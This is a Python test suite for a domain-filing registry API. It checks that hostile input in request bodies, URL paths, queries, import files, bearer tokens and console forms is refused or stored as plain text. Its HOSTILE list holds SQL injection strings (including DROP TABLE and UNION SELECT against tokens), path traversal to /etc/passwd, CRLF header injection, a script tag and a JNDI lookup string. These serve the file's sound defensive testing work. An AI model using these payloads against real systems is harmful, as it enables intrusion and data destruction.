"""Hostile text in every field: refused or stored as text, never run, never an internal error."""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import ClientSession, CookieJar
from yarl import URL

from gate.registry.commands import COMMANDS, Approve, Command, Role
from gate.registry.errors import RegistryError
from tests.harness.examples import some
from tests.registry.conftest import Api
from tests.registry.filings import first_filing, new_service

HOSTILE = [
    "' OR '1'='1",
    "'; DROP TABLE domains; --",
    '"; DELETE FROM log; --',
    "1); UPDATE domains SET status='filed' --",
    "%' UNION SELECT digest FROM tokens --",
    "$1 %(name)s :name ? {field} {0.__class__}",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\windows\\system32",
    "file:///etc/passwd",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "\u202egnirts",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.cn/x}",
    "xn--\u0430.cn",
    "a" * 5000,
    "١٢٣",
    "-1",
    "NaN",
    "9" * 30,
]

BODIES: dict[str, dict[str, Any]] = {
    "first_filing": first_filing("n.cn", account="n").model_dump(mode="json"),
    "new_service": new_service("n.cn").model_dump(mode="json")
    | {"subject": {"name": "公司", "kind": "unit", "certificate": "9137"}},
    "approve": {"application": 1, "licence": "鲁ICP备09090609号"},
    "reject": {"application": 1, "reason": "材料不全"},
    "access_filing": {"account": "a1", "domain": "a.cn", "licence": "鲁ICP备09090609号-1"},
    "change_subject": {
        "licence": "鲁ICP备09090609号",
        "name": "公司",
        "kind": "unit",
        "certificate": "9137",
        "account": "a1",
        "new_licence": "鲁ICP备09090609号",
    },
    "change_service": {"domain": "a.cn", "name": "网站", "domains": ["a.cn"]},
    "cancel_service": {"licence": "鲁ICP备09090600号-1"},
    "cancel_subject": {"licence": "鲁ICP备09090600号"},
    "cancel_access": {"domain": "none.cn", "provider": "other"},
    "suspend": {"domain": "none.cn", "reason": "违法内容"},
    "resume": {"domain": "none.cn"},
    "exempt_domain": {"domain": "www.none.cn", "seconds": 60, "reason": "核查"},
    "suspend_domain": {"domain": "www.none.cn", "reason": "违法内容"},
    "end_override": {"domain": "none.cn"},
}


def spoiled(value: Any, text: str) -> list[Any]:
    """Every variant of a body in which one value is `text`."""
    found: list[Any] = []
    if isinstance(value, dict):
        for key, item in value.items():
            found += [value | {key: bad} for bad in spoiled(item, text)]
        found.append(value | {text: text})
    elif isinstance(value, list):
        for number, item in enumerate(value):
            found += [[*value[:number], bad, *value[number + 1 :]] for bad in spoiled(item, text)]
    else:
        found.append(text)
    return found


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command.operation)
async def test_hostile_text_in_a_body_is_refused_or_stored_as_text(
    api: Api, command: type[Command]
) -> None:
    await api.do(first_filing("a.cn"))
    await api.do(Approve(application=1, licence="鲁ICP备09090609号-1"))
    path = f"/v1/operations/{command.operation.replace('_', '-')}"
    accepted = 0
    for text in some(HOSTILE):
        for body in spoiled(BODIES[command.operation], text):
            answer = await api.call("POST", path, json=body)
            assert answer.status in {200, 400, 404, 409, 422}, (answer.body, body)
            if answer.status == 200:
                accepted += 1
            else:
                assert answer.content_type == "application/problem+json"
    # Only free text (names, reasons) takes such things, and then word for word.
    if command.operation not in {"change_subject", "change_service", "first_filing"}:
        assert accepted <= 1
    record = (await api.call("GET", "/v1/filings/a.cn")).json()
    assert (record["status"], record["licence"]) == ("filed", "鲁ICP备09090609号-1")
    shown = await api.call("GET", "/v1/filings")
    assert len(shown.json()["items"]) == 1
    head = (await api.call("GET", "/v1/head")).json()
    assert head["revision"] == 1


async def test_hostile_text_in_a_path_or_query_is_refused(api: Api) -> None:
    await api.do(first_filing("a.cn"))
    await api.do(Approve(application=1, licence="鲁ICP备09090609号-1"))
    for text in some(HOSTILE):
        word = quote(text, safe="")
        for path in (
            f"/v1/filings/{word}",
            f"/v1/subjects/{word}",
            f"/v1/applications/{word}",
            f"/v1/imports/{word}",
            f"/v1/imports/{word}/refusals",
            f"/v1/changes?since={word}",
            f"/v1/changes?since=0&epoch={word}",
            f"/v1/filings?status={word}",
            f"/v1/filings?cursor={word}",
            f"/v1/filings?domain={word}",
            f"/v1/filings?licence={word}",
            f"/v1/filings?{word}={word}",
            f"/v1/export?format={word}",
            f"/{word}",
        ):
            answer = await api.call("GET", path)
            assert answer.status in {400, 404, 410, 422}, (answer.status, path)
        for field in ("subject", "account", "q"):
            answer = await api.call("GET", f"/v1/filings?{field}={word}")
            assert answer.status in {200, 400, 422}
            if answer.status == 200:
                assert answer.json()["items"] == [], text
        answer = await api.call("DELETE", f"/v1/tokens/{word}")
        assert answer.status == 404
    tokens = (await api.call("GET", "/v1/tokens")).json()["items"]
    assert [token["revoked_at"] for token in tokens] == [None] * len(Role)


async def test_a_character_that_no_database_keeps_is_refused_with_its_field(api: Api) -> None:
    """PostgreSQL has no U+0000, nor does SQLite get any. Its escape is a text as any other."""
    report = {"gate": "g1", "day": "2026-11-29", "domains": ["a.cn", "b\0.cn"]}
    order = {"account": "a\0", "entry": {}}
    for method, path, body, field in (
        ("GET", "/v1/blocked?account=%00", None, "account"),
        ("GET", "/v1/orders?account=a%00b", None, "account"),
        ("GET", "/v1/orders?target=%00", None, "target"),
        ("POST", "/v1/reports/traffic", report, "domains.1"),
        ("POST", "/v1/orders", order, "account"),
    ):
        answer = await api.call(method, path, json=body)
        assert (answer.status, answer.json()["field"]) == (422, field), path
    told = {"name": r"a\u0000b", "verified_at": 1}
    assert (await api.call("PUT", "/v1/accounts/a1", json=told)).status == 204


async def test_the_console_refuses_what_no_database_keeps(api: Api) -> None:
    def url(path: str) -> URL:
        return URL(f"{api.server.make_url('/console/')}{path}", encoded=True)

    async with ClientSession(cookie_jar=CookieJar(unsafe=True)) as session:
        async with session.post(url("login"), data={"token": "gate_\0_\0"}) as answer:
            assert answer.status == 401
        async with session.post(url("login"), data={"token": api.tokens[Role.ADMIN]}) as answer:
            found = re.search('name="csrf" value="([^"]+)"', await answer.text())
        assert found is not None
        for path in ("blocked?after=%00", "idle?after=a%00b", "hollow?after=%00", "why?name=%00"):
            async with session.get(url(path)) as answer:
                assert (answer.status, "控制字符" in await answer.text()) == (422, True), path
        form = {"csrf": found[1], "domain": "a\0.cn", "account": "\0"}
        async with session.post(url("blocked"), data=form) as answer:
            assert (answer.status, "控制字符" in await answer.text()) == (422, True)


async def test_hostile_text_in_a_file_is_refused_or_stored_as_text(api: Api) -> None:
    good = {"domain": "a.cn", "licence": "鲁ICP备09090609号-1", "subject": "公司"}
    lines = []
    for text in HOSTILE:
        for column in (*good, "subject_kind", "account", "certificate", "providers", "status"):
            lines.append(json.dumps(good | {column: text}))
    answer = await api.call(
        "POST",
        "/v1/imports?name=" + quote("'; DROP TABLE imports; --\x01"),
        data="\n".join(lines).encode(),
        headers={"Content-Type": "application/x-ndjson"},
    )
    assert answer.status == 422  # the name has a control character
    answer = await api.call(
        "POST",
        "/v1/imports?name=" + quote("'; DROP TABLE imports; --"),
        data="\n".join(lines).encode(),
        headers={"Content-Type": "application/x-ndjson"},
    )
    assert answer.status == 202
    digest = answer.json()["digest"]
    jobs = api.service.jobs
    await jobs.finished(digest)
    state = (await api.call("GET", f"/v1/imports/{digest}")).json()
    assert state["state"] == "done"
    shown = (await api.call("GET", "/v1/filings")).json()["items"]
    assert [item["domain"] for item in shown] == ["a.cn"]


async def test_a_token_is_no_way_into_the_database(api: Api) -> None:
    for text in HOSTILE:
        if not text.isprintable() or not text.isascii():
            continue
        answer = await api.call(
            "GET", "/v1/head", role=None, headers={"Authorization": f"Bearer {text}"}
        )
        assert answer.status == 401


async def test_what_the_client_says_is_not_shown_as_html(api: Api) -> None:
    answer = await api.call("GET", "/v1/filings/%3Cscript%3E.cn")
    assert answer.content_type == "application/problem+json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


async def test_a_reader_changes_nothing(api: Api) -> None:
    for command in COMMANDS:
        path = f"/v1/operations/{command.operation.replace('_', '-')}"
        answer = await api.call("POST", path, json=BODIES[command.operation], role=Role.READER)
        assert answer.status == 403
    for command in COMMANDS:
        if command.role is Role.ADMIN:
            path = f"/v1/operations/{command.operation.replace('_', '-')}"
            answer = await api.call(
                "POST", path, json=BODIES[command.operation], role=Role.REGISTRAR
            )
            assert answer.status == 403


def test_what_is_said_of_hostile_text_is_printable() -> None:
    error = RegistryError("licence_invalid", licence="\x00\u202e\n\ud800", detail="x")
    assert error.zh.isprintable()
    assert error.en.isprintable()
